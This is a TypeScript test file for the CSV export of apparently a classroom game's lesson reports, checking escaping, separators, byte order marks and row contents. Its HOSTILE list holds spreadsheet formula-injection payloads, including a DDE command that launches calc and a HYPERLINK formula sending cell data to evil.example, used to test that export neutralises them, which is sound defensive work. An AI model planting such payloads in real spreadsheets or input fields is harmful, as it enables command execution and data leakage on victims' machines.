import type { LessonReport, ReportStudent } from '@timeslice/shared/protocol';
import { expect, test } from 'vitest';
import { tinyScenario } from '../rooms/testWorlds.ts';
import { csvCell, reportCsv } from './reportCsv.ts';

/** RFC 4180, as any spreadsheet reads it. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  for (let at = 0; at < text.length; ) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] === '"' && text[at + 1] !== '"') break;
        if (text[at] === '"') at++;
        cell += text[at];
      }
      at++;
    } else while (at < text.length && text[at] !== separator && text[at] !== '\r') cell += text[at++];
    rows.at(-1)?.push(cell);
    if (text[at] === separator) at++;
    else if (text.startsWith('\r\n', at)) {
      at += 2;
      if (at < text.length) rows.push([]);
    }
  }
  return rows;
}

/** What has run as a formula, or was meant to, in spreadsheets that people use. */
const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1;"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '-1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '"=1+1"',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'Otter;=1+1',
  'Otter,=1+1',
  'Otter\t=1+1',
  'Otter";"=1+1',
  'Otter","=1+1',
  'Otter\r\n=1+1,@x',
];

const COMMON_SEPARATORS = [',', ';', '\t'];

test.each(HOSTILE)('C19 %j is a text in every spreadsheet, whatever it splits lines at', (name) => {
  for (const separator of COMMON_SEPARATORS) {
    const pieces = csvCell(name)
      .split(/\r\n|[\r\n]/)
      .flatMap((line) => line.split(separator));
    for (const piece of [...pieces, ...parseCsv(csvCell(name), separator).flat()]) {
      // Spaces and quotes before it do not make it harmless.
      expect(piece.replace(/^[\s"]+/, '')).not.toMatch(/^[=+\-@\t\r\0＝＋－＠]/);
    }
  }
});

test.each([
  ['Тихая Выдра', 'Тихая Выдра'],
  ['Jean-Luc', 'Jean-Luc'],
  ['say "hi"', '"say ""hi"""'],
  ['a,b', '"a,b"'],
  ['a;b', '"a;b"'],
  ['two\nlines', '"two\nlines"'],
  [' padded ', '" padded "'],
  ['', ''],
])('a harmless text stays what it is: %j', (text, cell) => {
  expect(csvCell(text)).toBe(cell);
});

test('numbers are numbers, and what is not known is empty', () => {
  expect([0, 12, -5, null].map(csvCell)).toEqual(['0', '12', '-5', '']);
});

const student = (seat: number, alias: string, plays: boolean): ReportStudent => ({
  seat,
  alias,
  total: plays ? 500 : 0,
  place: plays ? 1 : null,
  runs: plays
    ? [
        {
          round: 1,
          score: 700,
          points: 500,
          wall: 1000,
          cpu: 900,
          useful: 800,
          overhead: 100,
          switches: 4,
          gilWait: 0,
          value: 800_000,
          slack: 30,
          flags: ['late'],
          hash: 'h',
          log: [],
        },
      ]
    : [],
  guesses: [plays ? { answer: 1, right: true } : null],
  exit: [plays ? { answer: 0, right: false } : null, null],
});

const report: LessonReport = {
  format: 1,
  code: '123456',
  openedAt: 0,
  updatedAt: 0,
  keptUntil: 0,
  rounds: [
    {
      round: 1,
      levelId: 'convoy',
      weight: 100,
      naive: 100,
      par: 900,
      answer: 1,
      endedAt: 0,
      engine: '1',
      scenario: tinyScenario(),
    },
  ],
  students: [student(2, '=1+1', true), student(1, 'Выдра; тихая', false)],
  concepts: [
    {
      round: 1,
      levelId: 'convoy',
      before: { right: 1, of: 1 },
      after: { right: 0, of: 1 },
      inCode: null,
      learned: 0,
      lost: 1,
    },
  ],
};

test('a row for every student and round, also for those who did not play', () => {
  const [titles = [], first = [], second = [], ...more] = parseCsv(
    reportCsv(report, { separator: 'comma', locale: 'en' }),
    ',',
  );
  expect(more).toEqual([]);
  expect(new Set(titles).size).toBe(titles.length);
  const of = (row: string[]) => Object.fromEntries(titles.map((title, index) => [title, row[index]]));
  expect(of(first)).toEqual({
    Student: "'=1+1",
    Seat: '2',
    Round: '2',
    Level: 'Convoy',
    Played: '1',
    Score: '700',
    Points: '500',
    'Points in all': '500',
    Place: '1',
    'Wall time, ms of play': '1000',
    'CPU time, ms of play': '900',
    'Useful work, ms of play': '800',
    'Overhead, ms of play': '100',
    'Context switches': '4',
    'Waited for the GIL, ms of play': '0',
    'Prediction right (1 = yes)': '1',
    'Same question at the end right (1 = yes)': '0',
    'Question about real code right (1 = yes)': '',
    'Behind the clock, ms': '30',
    'Came late (1 = yes)': '1',
    'Unranked (1 = yes)': '0',
    'Away at the end (1 = yes)': '0',
  });
  expect(of(second)).toMatchObject({ Student: 'Выдра; тихая', Played: '0', Score: '', Points: '', Place: '' });
});

test('with commas there is no byte order mark, with semicolons there is one; both say the same', () => {
  const comma = reportCsv(report, { separator: 'comma', locale: 'ru' });
  const semicolon = reportCsv(report, { separator: 'semicolon', locale: 'ru' });
  expect(comma.startsWith('Ученик,')).toBe(true);
  expect(semicolon.startsWith('\uFEFFУченик;')).toBe(true);
  expect(parseCsv(semicolon.slice(1), ';')).toEqual(parseCsv(comma, ','));
  expect(comma.endsWith('\r\n')).toBe(true);
});
